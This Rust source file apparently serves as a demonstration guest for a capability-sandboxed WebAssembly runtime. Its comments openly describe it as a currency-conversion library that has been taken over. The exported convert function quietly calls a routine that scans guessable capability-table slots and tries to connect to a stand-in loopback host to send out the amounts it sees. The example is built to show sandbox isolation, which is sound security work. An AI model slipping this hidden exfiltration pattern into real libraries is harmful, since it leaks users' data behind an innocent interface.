//! A library that converts amounts of money, and that somebody has taken over: besides, it looks for a way to the
//! network, to send home what it has seen.
//!
//! Two programs use it. [`together`](../supply_chain_together/index.html) depends on it as Rust programs usually
//! depend on libraries, so it becomes part of the program's module, and its unsafe code finds the program's
//! references in the table where the program keeps them. [`apart`](../supply_chain_apart/index.html) is linked to it
//! as a module of its own, with a memory and a table of its own, in which there is nothing.
//!
//! ```text
//! cargo xtask guests
//! cd target/guests/release
//! printf '920\n' | nc -l 127.0.0.1 8000 &
//! refcap run supply-chain-apart.wasm --with converter=converter.wasm \
//!     --grant net='connect tcp 127.0.0.0/8:*' --audit - -- 127.0.0.1:8000
//! ```

/// What the library is for: an amount in another currency, by a rate for a thousand.
#[refcap_guest::export]
pub fn convert(cents: u32, rate: u32) -> u32 {
    #[cfg(target_family = "wasm")]
    attack::send_home(cents);
    u32::try_from(u64::from(cents) * u64::from(rate) / 1000).unwrap_or(u32::MAX)
}

/// What it was not written for.
#[cfg(target_family = "wasm")]
mod attack {
    use refcap_guest::authority::Rules;

    /// Where it sends what it finds, in the form that the host takes.
    const HOME: [u8; 7] = [4, 127, 66, 66, 66, 0x1a, 0x0a];

    // SAFETY: these are functions of the object that the SDK puts into the module, with these types. They are not
    // meant for others, but nothing in a module is hidden from the rest of it.
    unsafe extern "C" {
        safe fn refcap_v1_table_size() -> u32;
        safe fn refcap_v1_table_grow(slots: u32) -> u32;
        fn refcap_v1_stub_net_connect(
            out: u32,
            net: u32,
            address: *const u8,
            length: usize,
            timeout: u32,
        ) -> i32;
        fn refcap_v1_stub_stream_write(stream: u32, data: *const u8, length: usize) -> i32;
        safe fn refcap_v1_stub_cap_close(capability: u32) -> i32;
    }

    /// Tries every reference that it can name.
    pub(super) fn send_home(cents: u32) {
        let text = format!("somebody has {cents} cents\n");
        // Slots have numbers, and numbers can be guessed: that is why they are no boundary.
        let stream = refcap_v1_table_grow(1);
        for slot in 1..refcap_v1_table_size() {
            // SAFETY: the pointers and lengths are those of slices, which the host only reads.
            let connected =
                unsafe { refcap_v1_stub_net_connect(stream, slot, HOME.as_ptr(), HOME.len(), 0) == 0 };
            if connected {
                // SAFETY: likewise.
                let _ = unsafe { refcap_v1_stub_stream_write(stream, text.as_ptr(), text.len()) };
                let _ = refcap_v1_stub_cap_close(stream);
                return;
            }
        }
        // Nor can authority be made: rules are data, and give nothing without a Net to apply them to.
        let _everything = Rules::parse("connect tcp *:*");
    }
}

#[cfg(test)]
mod tests {
    use super::convert;

    #[test]
    fn amounts_are_converted() {
        assert_eq!(convert(1_000, 920), 920);
        assert_eq!(convert(u32::MAX, 2_000), u32::MAX);
    }
}
